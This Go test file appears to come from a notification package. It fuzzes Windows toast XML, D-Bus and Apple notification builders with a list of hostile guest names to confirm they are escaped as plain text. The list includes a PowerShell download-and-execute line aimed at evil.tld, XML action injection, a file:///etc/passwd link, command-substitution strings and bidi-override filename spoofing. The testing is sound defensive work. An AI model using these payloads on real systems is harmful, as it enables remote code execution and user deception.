package notify

import (
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"strings"
	"testing"
	"unicode"
	"unicode/utf16"
	"unicode/utf8"

	toast "git.sr.ht/~jackmordaunt/go-toast/v2"
	"git.sr.ht/~jackmordaunt/go-toast/v2/tmpl"
	"github.com/godbus/dbus/v5"
)

// hostile are names with a meaning for systems that read more than text in them. CleanName is not applied to them,
// because it would remove some of it.
var hostile = []string{
	"Ada",
	"]]>$(iwr evil.tld/a -useb|iex)",
	"Ada \uFFFF$(calc)",
	"Ada \uFFFE \uFDD0 \U0001FFFE \U0010FFFF `calc`",
	"]]></text></binding></visual><actions><action content=\"Let in\" arguments=\"x\"/></actions>",
	"</text>", "<text>", "<![CDATA[", "<!-- ", "<?xml?>", "<!DOCTYPE toast [<!ENTITY a \"b\">]>",
	"&", "&amp;", "&lt;b&gt;", "&#60;b&#62;", "&#0;", "&bomb;",
	"<b>bold</b>", "<a href=\"file:///etc/passwd\">press</a>", "<img src=\"http://evil.tld/seen.png\"/>", "'\"><",
	"$(calc)", "${calc}", "$env:PATH", "`n`$(calc)", "\"@", "\"@\ncalc\n@\"", "\n\"@\ncalc", "'@\ncalc\n@'", "; calc", "| calc", "& calc", "%COMSPEC%", "%s%n%@", "\\u0000",
	"A\x00da", "\x00", "A\x1b[31mda\x07\x7f", "A\r\nda\tL\vL", "\u0085\u2028\u2029",
	"A\xff\xc0\xafda", "\xed\xa0\x80\xed\xb0\x80",
	"Ada\u202Egnp.exe", "\u2066\u2067\u2068\u2069\u2069\u2069\u200E\u200F\u061C\u202A\u202B\u202C\u202D",
	"👩\u200D👩\u200D👧 🇨🇭🏴\U000E0067\U000E0062\U000E0077\U000E006C\U000E0073\U000E007F 𝔄𝔡𝔞", strings.Repeat("👍", 64),
	"نمی\u200Cخواهم", "Nguye\u0302\u0303n", "\uFEFFAda", "-Ada", "--print", "",
}

func TestHostileNames(t *testing.T) {
	for _, name := range hostile {
		t.Run(fmt.Sprintf("%+q", name), func(t *testing.T) { checkSystems(t, name, name) })
	}
}

// FuzzSystems passes two guests' texts to the builders of all three systems.
func FuzzSystems(f *testing.F) {
	for i, name := range hostile {
		f.Add(name, hostile[len(hostile)-1-i])
	}
	f.Fuzz(checkSystems)
}

// checkSystems checks that all three systems read a note of a guest with this name as text, and nothing else.
func checkSystems(t *testing.T, name, link string) {
	n := Texts{}.withDefaults().request(Request{ID: "id of ours", Name: name, LinkName: link, LooksLike: name})
	checkToast(t, n)
	checkDesktop(t, n)
	title, body := Apple(n)
	carried(t, title)
	carried(t, body)
}

// carried fails unless every system reads s as one string.
func carried(t *testing.T, s string) {
	t.Helper()
	if !utf8.ValidString(s) {
		t.Errorf("%+q is not UTF-8", s)
	}
	for _, r := range s {
		if r != '\n' && unicode.In(r, unicode.Cc, unicode.Noncharacter_Code_Point) {
			t.Errorf("%+q holds %U", s, r)
		}
		if unicode.In(r, unicode.Bidi_Control) && r != firstStrongIsolate && r != popIsolate {
			t.Errorf("%+q turns its surroundings with %U", s, r)
		}
	}
}

// text returns what an XML reader finds in b: its elements with their attributes, and the character data between
// them.
func text(t *testing.T, b string) (shape []string, data map[string]string) {
	t.Helper()
	data = make(map[string]string)
	var path []string
	for d := xml.NewDecoder(strings.NewReader(b)); ; {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			return shape, data
		}
		if err != nil {
			t.Fatalf("%v in\n%s", err, b)
		}
		switch token := token.(type) {
		case xml.StartElement:
			path = append(path, token.Name.Local)
			where := fmt.Sprint(len(shape), " ", strings.Join(path, "/"))
			shape = append(shape, where)
			for _, a := range token.Attr {
				data[where+"@"+a.Name.Local] = a.Value
			}
		case xml.EndElement:
			path = path[:len(path)-1]
		case xml.CharData:
			data[fmt.Sprint(len(shape)-1, " ", strings.Join(path, "/"))] += string(token)
		default:
			t.Fatalf("%T in\n%s", token, b)
		}
	}
}

func checkToast(t *testing.T, n Note) {
	document := Toast(n, func(action string) string { return WailsLaunch(n.ID, action) })
	for _, r := range document {
		if r > unicode.MaxASCII || r < ' ' || strings.ContainsRune("$`'", r) {
			t.Fatalf("%U in\n%s", r, document)
		}
	}
	if a, b := utf8.RuneCountInString(document), len(utf16.Encode([]rune(document))); a != b {
		t.Errorf("go-ole would cut %d of %d off", b-a, b)
	}
	shape, data := text(t, document)
	want := "0 toast,1 toast/visual,2 toast/visual/binding,3 toast/visual/binding/text,4 toast/visual/binding/text," +
		"5 toast/audio,6 toast/actions,7 toast/actions/action,8 toast/actions/action"
	if got := strings.Join(shape, ","); got != want {
		t.Fatalf("the toast is built as\n%s\nwant\n%s", got, want)
	}
	for where, want := range map[string]string{
		"3 toast/visual/binding/text":      line(n.Title),
		"4 toast/visual/binding/text":      lines(n.Body),
		"7 toast/actions/action@content":   "Let in",
		"8 toast/actions/action@content":   "Decline",
		"0 toast@launch":                   WailsLaunch(n.ID, ActionOpen),
		"7 toast/actions/action@arguments": WailsLaunch(n.ID, ActionLetIn),
		"8 toast/actions/action@arguments": WailsLaunch(n.ID, ActionDecline),

		"0 toast@scenario":                      "reminder", // requires an action with background activation
		"0 toast@duration":                      "long",
		"7 toast/actions/action@activationType": "foreground",
		"8 toast/actions/action@activationType": "background",
	} {
		if data[where] != want {
			t.Errorf("%s is %+q, want %+q", where, data[where], want)
		}
	}
	checkScript(t, document)
}

// TestToastOfTheSummary: the summary has no action, so it can't be a reminder that stays.
func TestToastOfTheSummary(t *testing.T) {
	n := Texts{}.withDefaults().summary(7)
	shape, data := text(t, Toast(n, func(action string) string { return WailsLaunch(n.ID, action) }))
	if _, reminds := data["0 toast@scenario"]; reminds || data["0 toast@duration"] != "long" || len(shape) != 6 {
		t.Errorf("%q %+q", shape, data)
	}
}

// checkScript checks that the document would be nothing but text even in go-toast's script, which never gets it.
func checkScript(t *testing.T, document string) {
	var script bytes.Buffer
	if err := tmpl.ScriptTemplate.Execute(&script, map[string]string{"AppID": "porch.exe", "XML": document}); err != nil {
		t.Fatal(err)
	}
	_, rest, begins := strings.Cut(script.String(), "@\"\n")
	hereString, _, ends := strings.Cut(rest, "\n\"@")
	if !begins || !ends {
		t.Fatal("go-toast's script has no here-string any more")
	}
	if hereString != document || strings.ContainsAny(hereString, "$`") {
		t.Errorf("PowerShell would read more than text in\n%s", hereString)
	}
}

func checkDesktop(t *testing.T, n Note) {
	summary, body := Desktop(n, true)
	_, data := text(t, "<body>"+body+"</body>")
	_, plain := Desktop(n, false)
	if len(data) > 1 || data["0 body"] != plain {
		t.Errorf("a server that reads markup finds %+q, want %+q alone", data, plain)
	}
	for _, s := range []string{summary, body, plain} {
		carried(t, s)
		m := dbus.Message{
			Type: dbus.TypeSignal,
			Headers: map[dbus.HeaderField]dbus.Variant{
				dbus.FieldPath: dbus.MakeVariant(dbus.ObjectPath("/a")), dbus.FieldInterface: dbus.MakeVariant("a.b"),
				dbus.FieldMember: dbus.MakeVariant("C"), dbus.FieldSignature: dbus.MakeVariant(dbus.SignatureOf(s)),
			},
			Body: []any{s},
		}
		if err := m.EncodeTo(io.Discard, binary.LittleEndian); err != nil {
			t.Errorf("D-Bus does not take %+q: %v", s, err)
		}
	}
}

// TestWhyNotGoToast shows why go-toast is not used: such names break its document, and its script then runs what they
// contain.
func TestWhyNotGoToast(t *testing.T) {
	for _, name := range []string{"]]>$(calc)", "Ada \uFFFF$(calc)"} {
		var document, script bytes.Buffer
		n := toast.Notification{Title: name, Duration: toast.Short, Audio: toast.Default}
		if err := tmpl.XMLTemplate.Execute(&document, &n); err != nil {
			t.Fatal(err)
		}
		var err error
		for d := xml.NewDecoder(&document); err == nil; _, err = d.Token() {
		}
		if errors.Is(err, io.EOF) {
			t.Errorf("%+q is escaped now: this way is open again", name)
		}
		if err := tmpl.ScriptTemplate.Execute(&script, map[string]string{"AppID": "porch.exe", "XML": name}); err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(script.String(), "$(calc)") {
			t.Errorf("%+q is escaped in the script now", name)
		}
	}
}

// TestLaunch reads the arguments of a toast as Wails does.
func TestLaunch(t *testing.T) {
	b, err := base64.StdEncoding.DecodeString(WailsLaunch("request", ActionLetIn))
	if err != nil {
		t.Fatal(err)
	}
	var got struct {
		Action  string `json:"action"`
		Options struct {
			ID string `json:"id"`
		} `json:"payload"`
	}
	if err := json.Unmarshal(b, &got); err != nil || got.Action != ActionLetIn || got.Options.ID != "request" {
		t.Errorf("%s: %+v, %v", b, got, err)
	}
}

func TestDesktopMarkup(t *testing.T) {
	n := Note{Title: "R&D <b>", Body: `<b>R&D</b> "x"`}
	if summary, body := Desktop(n, true); summary != "R&D <b>" || body != `&lt;b&gt;R&amp;D&lt;/b&gt; "x"` {
		t.Errorf("%q %q", summary, body)
	}
	if summary, body := Desktop(n, false); summary != n.Title || body != n.Body {
		t.Errorf("%q %q", summary, body)
	}
}
